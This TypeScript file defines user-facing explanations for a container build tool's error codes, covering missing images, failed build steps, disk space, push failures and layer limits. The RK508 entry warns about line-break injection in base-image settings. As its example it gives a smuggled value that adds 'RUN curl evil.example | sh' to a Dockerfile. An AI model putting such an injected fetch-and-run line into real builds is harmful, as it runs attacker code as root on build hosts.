import type { imageErrors } from "../catalogue/rk5-images.ts";
import type { ExplanationsOf } from "./explanation.ts";

export const imageExplanations: ExplanationsOf<typeof imageErrors> = {
  RK501: {
    title: "Image not found",
    meaning: "The engine does not have the image, and pulling it from its registry failed.",
    solution:
      'Check the name and the tag, and the network. For a private registry, log in with your engine first, as in "docker login".',
    examples: [
      { image: "debian:bokworm", message: "manifest for debian:bokworm not found: manifest unknown" },
      {
        image: "ghcr.io/team/app",
        message: "unauthorized",
        hint: "Log in first: docker login ghcr.io",
      },
    ],
  },
  RK502: {
    title: "Build step failed",
    meaning:
      "A step that an extension adds to the image failed. The message names the extension and the step, and shows the end of its output. No image was created.",
    solution:
      'Fix what the output reports. "--verbose" shows the full output. Steps that succeeded are cached and do not run again.',
    examples: [
      {
        step: "packages cmake ninja-build",
        extension: "deps",
        output: "E: Unable to locate package ninja-build\n",
        reason: "exit code 100",
      },
      { step: "create the user ada", extension: "user", output: "", reason: "exit code 1" },
    ],
  },
  RK503: {
    title: "Build failed",
    meaning: "The engine could not build the image, and not because of a single step.",
    solution: 'Fix what the message reports. "--verbose" shows the full output.',
    examples: [{ message: "failed to solve: DeadlineExceeded" }],
  },
  RK504: {
    title: "Out of disk space",
    meaning: "There is no space left where the engine keeps its images, or for temporary files.",
    solution:
      'Free some space. "rocker prune" removes images that rocker built and no longer uses; the engine has a command that removes more, such as "docker system prune".',
    examples: [{ where: "write /var/lib/docker/tmp/x: no space left on device" }],
  },
  RK505: {
    title: "Interrupted",
    meaning: "Ctrl-C or a signal ended the command before it was done.",
    solution: "Run it again. What was in progress was undone; finished build steps are cached.",
    examples: [{ doing: "building the image" }],
  },
  RK506: {
    title: "Confirmation needed",
    meaning: '"rocker prune" asks before it removes anything, and there is no terminal to ask in.',
    solution: 'Use "--yes" in scripts.',
    examples: [{ what: "2 containers and 5 images (1.2 GB)" }],
  },
  RK507: {
    title: "Image cannot be recorded",
    meaning: "The image was built and can be used, but rocker could not write its record. This is a warning.",
    solution:
      "Make the state directory writable, free disk space, or set XDG_STATE_HOME to another directory.",
    examples: [{ file: "/home/ada/.local/state/rocker/images", reason: "EACCES: permission denied" }],
  },
  RK508: {
    title: "Line break in a setting of the base image",
    meaning:
      "A setting of the base image, such as a variable or the user, contains a line break. Written into a Dockerfile, what follows would be an instruction that runs as root during the build. An image like that may be an attack.",
    solution: "Do not use the image before you know where the setting comes from.",
    examples: [{ text: "0\nRUN curl evil.example | sh" }],
  },
  RK509: {
    title: "No SSH agent for the build",
    meaning:
      "A build step uses your SSH agent, for example to clone a private repository, and no agent is running for this session.",
    solution: "Start an agent and add your key, then run rocker from the same shell.",
    examples: [
      { extension: "deps", step: "pip git+ssh://git@example.com/team/lib" },
      { extension: "deps", step: "pip git+ssh://git@example.com/team/lib", socket: "/tmp/ssh-x/agent.1" },
    ],
  },
  RK510: {
    title: "Push failed",
    meaning: "The registry did not accept the image.",
    solution: "Check the name and the network, and that you are logged in and may push there.",
    examples: [
      { name: "registry.example/team/app:1", message: "dial tcp: lookup registry.example: no such host" },
      { name: "ghcr.io/team/app:1", message: "denied", hint: "Log in first: docker login ghcr.io" },
    ],
  },
  RK511: {
    title: "Too many layers",
    meaning:
      "The storage driver of the engine limits how many layers an image can have, and this one would have more. rocker checks that before it builds.",
    solution: "Combine steps, or use a base image with fewer layers.",
    examples: [
      {
        image: "app:latest",
        layers: 131,
        limit: 127,
        engine: "docker (overlay2)",
        base: 120,
        steps: "10 from deps, 1 from user",
      },
    ],
  },
  RK512: {
    title: "Output cannot be written",
    meaning:
      "Standard output leads to a full disk or a device that failed. A pipe whose reader has ended is no error: rocker then exits with 141, as other programs do.",
    solution: "Free disk space, or redirect the output elsewhere.",
    examples: [{ message: "ENOSPC: no space left on device, write" }],
  },
  RK513: {
    title: "File or directory cannot be used",
    meaning: "The file system refused to read or write the path.",
    solution: "Check permissions and free disk space, or use another directory.",
    examples: [
      { path: "/home/ada/.cache/rocker", message: "permission denied" },
      { path: "/srv/app/Dockerfile", message: "it is not a regular file" },
    ],
  },
};
